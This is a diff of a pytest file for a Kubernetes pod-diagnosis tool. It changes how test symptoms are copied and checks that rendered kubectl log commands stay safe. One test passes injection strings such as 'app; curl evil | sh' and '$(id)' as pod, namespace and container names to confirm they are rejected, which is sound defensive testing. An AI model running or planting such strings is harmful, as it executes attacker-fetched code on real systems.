@@ -1,7 +1,5 @@
 """Templates and what fills them."""
 
-from dataclasses import replace
-
 import pytest
 
 from pod_diagnoser.diagnosis.cause_rules import CAUSE_RULES
@@ -44,7 +42,7 @@ def test_all_placeholders_are_used() -> None:
         text if isinstance(text, str) else text(symptom)
         for rule in CAUSE_RULES
         for text in (rule.diagnosis, rule.evidence, rule.next_step)
-        for symptom in (SYMPTOM, replace(SYMPTOM, memory_limit="64Mi"))
+        for symptom in (SYMPTOM, SYMPTOM._replace(memory_limit="64Mi"))
     ]
     whole += [words.next_step for words in PROBLEM_WORDS.values()]
     assert [name for name in PLACEHOLDERS if f"{{{name}}}" not in "".join(whole)] == []
@@ -71,12 +69,12 @@ def test_a_duration_has_the_largest_unit_of_which_there_are_two(seconds: int, wr
 def test_a_command_has_all_names_or_is_none() -> None:
     """Only names that Kubernetes allows stand in a command."""
     assert render("{logs}", SYMPTOM) == "kubectl logs -n shop app-1 -c app --previous"
-    assert render("{logs}", replace(SYMPTOM, final=True)) == "kubectl logs -n shop app-1 -c app"
+    assert render("{logs}", SYMPTOM._replace(final=True)) == "kubectl logs -n shop app-1 -c app"
     for name in ("app; curl evil | sh", "app app", "", "App", "-o", "$(id)", "a\nb"):
         for symptom in (
-            replace(SYMPTOM, namespace=name),
-            replace(SYMPTOM, pod=name),
-            replace(SYMPTOM, container=name),
+            SYMPTOM._replace(namespace=name),
+            SYMPTOM._replace(pod=name),
+            SYMPTOM._replace(container=name),
         ):
             line = render("{logs}", symptom)
             assert line == "kubectl logs --previous"
@@ -85,6 +83,6 @@ def test_a_command_has_all_names_or_is_none() -> None:
 def test_a_command_for_which_there_is_no_room_has_no_names() -> None:
     """It is never cut, and what is said about it gives way first."""
     template = "[see its last output: ]{logs}"
-    assert render(template, replace(SYMPTOM, pod="p" * 40)).startswith("see its last output: kub")
-    assert render(template, replace(SYMPTOM, pod="p" * 90)).startswith("kubectl logs -n shop ppp")
-    assert render(template, replace(SYMPTOM, pod="p" * 120)) == "kubectl logs --previous"
+    assert render(template, SYMPTOM._replace(pod="p" * 40)).startswith("see its last output: kub")
+    assert render(template, SYMPTOM._replace(pod="p" * 90)).startswith("kubectl logs -n shop ppp")
+    assert render(template, SYMPTOM._replace(pod="p" * 120)) == "kubectl logs --previous"
